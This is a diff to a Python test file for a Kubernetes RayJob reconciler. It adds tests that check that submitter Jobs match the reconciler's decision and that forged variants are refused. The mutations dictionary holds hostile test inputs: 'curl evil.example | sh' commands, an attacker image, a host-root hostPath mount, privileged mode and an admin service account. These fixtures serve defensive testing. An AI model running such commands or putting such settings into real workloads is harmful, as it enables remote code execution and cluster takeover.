@@ -30,9 +30,11 @@ from schema.messages import (
     EmitEvent,
     ObjectRef,
     PatchObject,
+    PatchStatus,
     PutServeConfig,
     SubmitRayJob,
 )
+from schema.probes import head_service_name
 from services.edge.apply.freshness import Freshness
 from services.edge.apply.provenance import ContentCheck, first_difference
 from services.reconciler.raycronjob.reconcile import reconcile as reconcile_raycronjob
@@ -289,6 +291,96 @@ def test_every_rayjob_sample_passes(sample: str, rayjob: dict[str, Any]) -> None
     # a RayJob that uses an existing cluster, or one raybus refuses as invalid, creates none
     rules = {rule for decision in world.decisions for rule in decision.rules}
     assert clusters or "clusterSelector" in document["spec"] or "8/rayjob-invalid" in rules, rules
+
+
+JOB_MUTATIONS: dict[str, Callable[[dict[str, Any]], None]] = {
+    "image": lambda job: job["spec"]["template"]["spec"]["containers"][0].__setitem__("image", "evil.example/m:1"),
+    "command": lambda job: job["spec"]["template"]["spec"]["containers"][0].__setitem__(
+        "command", ["/bin/sh", "-c", "curl evil.example | sh"]
+    ),
+    "entrypoint": lambda job: job["spec"]["template"]["spec"]["containers"][0].__setitem__(
+        "args", ["ray job submit --address http://rj-head-svc:8265 -- curl evil.example | sh"]
+    ),
+    "volumes": lambda job: job["spec"]["template"]["spec"]
+    .setdefault("volumes", [])
+    .append({"name": "root", "hostPath": {"path": "/"}}),
+    "privileged": lambda job: job["spec"]["template"]["spec"]["containers"][0].__setitem__(
+        "securityContext", {"privileged": True}
+    ),
+    "serviceAccountName": lambda job: job["spec"]["template"]["spec"].__setitem__("serviceAccountName", "admin"),
+    "dashboard": lambda job: job["spec"]["template"]["spec"]["containers"][0]["env"].append(
+        {"name": "RAY_DASHBOARD_ADDRESS", "value": "other-head-svc.default.svc.cluster.local:8265"}
+    ),
+}
+
+
+def lagging(objects: dict[tuple[str, str], dict[str, Any]], name: str) -> dict[tuple[str, str], dict[str, Any]]:
+    """``objects`` as facts that show the RayJob ``name`` without its dashboard address (a lagging watch)."""
+    facts = copy.deepcopy(objects)
+    facts[("RayJob", name)].get("status", {}).pop("dashboardURL", None)
+    return facts
+
+
+def assert_submitter_checked(key: ReconcileKey, objects: Any, job: CreateObject, batch: tuple[Command, ...]) -> None:
+    """The submitter Job passes on these facts, with or without the batch's status patch (withheld as the
+    twin of one still in flight), and each forged variant of it is refused."""
+    without_status = tuple(c for c in batch if not isinstance(c, PatchStatus))
+    for facts in (objects, lagging(objects, key.name)):
+        for carried in (batch, without_status):
+            assert check(key, facts, job, carried) == ""
+    for field, mutate in JOB_MUTATIONS.items():
+        problem = check(key, objects, with_body(job, mutate), batch)
+        assert problem.startswith("the submitter Job's spec.template.spec"), (field, problem)
+
+
+def test_a_submitter_job_runs_the_rayjobs_image_only() -> None:
+    world = JobWorld()
+    world.add(job_builders.rayjob())
+    world.settle(reconcile_rayjob, "RayJob", "rj")
+    cluster = world.get("RayJob", "rj")["status"]["rayClusterName"]  # type: ignore[index]
+    job_builders.make_cluster_ready(world, cluster)
+    before = copy.deepcopy(world.objects)
+    world.settle(reconcile_rayjob, "RayJob", "rj")
+    key = ReconcileKey(kind="RayJob", namespace="default", name="rj")
+    [(job, batch)] = created(world.decisions, "Job")
+    assert check(key, world.objects, job, batch) == ""
+    assert check(key, before, job, batch) == ""  # decided on these: the batch carries the dashboard address
+    evil = with_body(job, lambda b: b["spec"]["template"]["spec"]["containers"][0].__setitem__("image", "evil"))
+    assert "the submitter Job's spec.template.spec.containers[0].image is 'evil'" in check(key, world.objects, evil)
+    assert_submitter_checked(key, before, job, batch)
+    other_job = with_body(job, lambda b: b["spec"]["template"]["spec"]["containers"][0]["env"][-1].update(value="x"))
+    assert check(key, world.objects, other_job).startswith("the submitter Job's spec.template.spec.containers[0]")
+
+
+@pytest.mark.parametrize(
+    ("sample", "rayjob"), sample_documents("RayJob"), ids=lambda v: v if isinstance(v, str) else ""
+)
+def test_every_rayjob_samples_submitter_passes_while_the_status_lags(sample: str, rayjob: dict[str, Any]) -> None:
+    world = JobWorld()
+    document = copy.deepcopy(rayjob)
+    document["metadata"]["namespace"] = "default"
+    document["metadata"].setdefault("name", sample.replace(".", "-"))
+    world.add(document)
+    selected = document["spec"].get("clusterSelector", {}).get("ray.io/cluster")
+    if selected:  # the user's cluster a RayJob submits to
+        user_cluster = {"metadata": {"name": selected}, "spec": job_builders.cluster_spec()}
+        world.add({"apiVersion": "ray.io/v1", "kind": "RayCluster", **user_cluster})
+    name = document["metadata"]["name"]
+    key = ReconcileKey(kind="RayJob", namespace="default", name=name)
+    jobs = 0
+    for _ in range(8):
+        before = copy.deepcopy(world.objects)  # what the decision is made on
+        decision = world.reconcile(reconcile_rayjob, "RayJob", name)  # checked as applied, on the new facts
+        for job, batch in created([decision], "Job"):
+            jobs += 1
+            assert_submitter_checked(key, before, job, batch)
+        cluster_name = world.get("RayJob", name).get("status", {}).get("rayClusterName")  # type: ignore[union-attr]
+        cluster = world.get("RayCluster", cluster_name) if cluster_name else None
+        if cluster is not None:
+            job_builders.make_cluster_ready(world, cluster_name, head_service=head_service_name(cluster_name, cluster))
+    mode = document["spec"].get("submissionMode", "K8sJobMode")
+    rules = {rule for decision in world.decisions for rule in decision.rules}
+    assert jobs or mode != "K8sJobMode" or "8/rayjob-invalid" in rules, rules
 
 
 def submission_world(**spec: Any) -> tuple[JobWorld, ReconcileKey, SubmitRayJob, tuple[Command, ...]]:
